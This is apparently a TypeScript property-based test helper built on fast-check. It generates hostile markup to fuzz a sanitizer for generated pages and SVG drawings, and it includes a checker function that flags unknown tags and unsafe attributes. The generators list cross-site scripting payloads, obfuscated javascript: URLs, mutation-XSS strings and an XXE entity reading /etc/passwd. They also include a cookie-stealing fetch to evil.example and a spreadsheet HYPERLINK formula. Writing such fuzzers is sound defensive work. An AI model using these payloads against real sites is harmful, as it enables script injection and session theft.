/** Markup and addresses that mean harm, made from a seed: what a page, a drawing or a message may put on the clipboard or into a file. */
import fc from 'fast-check';

const scripts = [
  'alert(1)',
  'fetch("https://evil.example/?"+document.cookie)',
  'parent.postMessage(1,"*")',
  "import('//evil.example')",
];

const script = fc.constantFrom(...scripts);

/** Addresses that must never be followed, written in all the ways that browsers forgive. */
const badAddress = fc
  .tuple(
    fc.constantFrom(
      ...[
        'javascript:',
        'JaVaScRiPt:',
        ' javascript:',
        'java\tscript:',
        'java\nscript:',
        '\u0001javascript:',
      ],
      ...[
        '&#106;avascript:',
        'javascript&colon;',
        'vbscript:',
        'data:text/html,<script>',
        'file:///etc/passwd?',
      ],
      ...[
        'data:image/svg+xml;base64,',
        'blob:null/',
        'view-source:javascript:',
        'intent://',
        '//evil.example/',
      ],
      ...['https:javascript:', 'mailto:a@b?body=javascript:', 'https://a@evil.example"onclick="'],
    ),
    script,
  )
  .map(([scheme, rest]) => scheme + rest);

const handler = fc
  .tuple(
    fc.constantFrom(
      'onerror',
      'onload',
      'ONCLICK',
      'onfocus autofocus tabindex=0 onblur',
      'on\u0000begin',
      'ontoggle open',
    ),
    fc.constantFrom('"', "'", '', '`'),
    script,
  )
  .map(([name, quote, code]) => ` ${name}=${quote}${code}${quote}`);

const element = fc.constantFrom(
  ...['img src=x', 'svg', 'math', 'details', 'iframe', 'object', 'embed', 'form', 'base', 'link', 'meta'],
  ...[
    'style',
    'template',
    'noscript',
    'title',
    'textarea',
    'xmp',
    'plaintext',
    'select',
    'table',
    'video',
    'body',
  ],
  ...[
    'foreignObject',
    'animate attributeName=href',
    'set',
    'use',
    'image',
    'a',
    'mglyph',
    'mtext',
    'annotation-xml',
  ],
);

const opened = fc.tuple(element, handler).map(([name, more]) => `<${name}${more}>`);

/** Shapes that change their meaning when a browser writes them and reads them again. */
const mutating = fc.constantFrom(
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><foreignObject><body><script>alert(1)</script></body></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><svg>&b;&c;</svg>',
  '<?xml-stylesheet href="javascript:alert(1)"?><svg/>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script><![CDATA[',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  '</title></style></textarea></template><img src=x onerror=alert(1)>',
  '<a href="https://good.example" onclick="alert(1)">good</a>',
);

const nested = fc
  .tuple(fc.constantFrom('div', 'svg', 'math', 'table', 'b', 'template'), fc.constantFrom(10, 200, 4000))
  .map(([name, depth]) => `<${name}>`.repeat(depth));

const piece = fc.oneof(
  opened,
  mutating,
  script.map((code) => `<script>${code}</script>`),
  badAddress.map((address) => `<a href="${address}">x</a>`),
  badAddress,
  fc.constantFrom(
    'Stage\tTouchpoint\tEmotion\nBuy\t',
    '\n',
    '\t',
    'Waiting -1',
    '\u202e',
    '\0',
    '\ud800',
    '{{7*7}}',
  ),
  fc.constantFrom(
    '__proto__',
    'constructor',
    '=HYPERLINK("https://evil.example")',
    'See https://good.example/a.',
  ),
);

/** Any of it, one after the other or deep in one another. */
export const hostileMarkup = fc.oneof(
  { weight: 9, arbitrary: fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join('')) },
  { weight: 1, arbitrary: nested },
);

/** Elements and attributes of the pages and drawings that are made here. */
const elements = new Set(
  (
    'html head meta title style body header h1 h2 h3 nav ul li a main div section table thead tbody tr th td span bdi dl dt dd ' +
    'details summary footer p svg g path line rect circle line text tspan image clippath defs template'
  ).split(' '),
);
const badAttribute = /^(?:on|srcdoc$|formaction$|xlink:|style$)/i;
const goodAddress = /^(?:https?:\/\/|mailto:|#|data:image\/(?:png|jpeg|webp);base64,)/;
const tag = /<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z][a-zA-Z0-9:-]*="[^"<>]*")*)\s*\/?>/y;

/** What is in a page or a drawing made here that should not be: in both, a `<` always begins a tag that is known and has whole attributes. */
export function harmIn(markup: string): string[] {
  const harm: string[] = [];
  const text = markup.replace(/^<!doctype html>/, '').replace(/<style>[^<]*<\/style>/g, '');
  for (let at = text.indexOf('<'); at >= 0; at = text.indexOf('<', at + 1)) {
    tag.lastIndex = at;
    const [whole, name = '', more = ''] = tag.exec(text) ?? [];
    if (whole === undefined || !elements.has(name.toLowerCase())) harm.push(text.slice(at, at + 80));
    for (const [, attribute = '', value = ''] of more.matchAll(/([a-zA-Z0-9:-]+)="([^"]*)"/g)) {
      const isAddress = attribute === 'href' || attribute === 'src';
      if (badAttribute.test(attribute) || (isAddress && !goodAddress.test(value))) harm.push(whole ?? '');
    }
  }
  return harm;
}
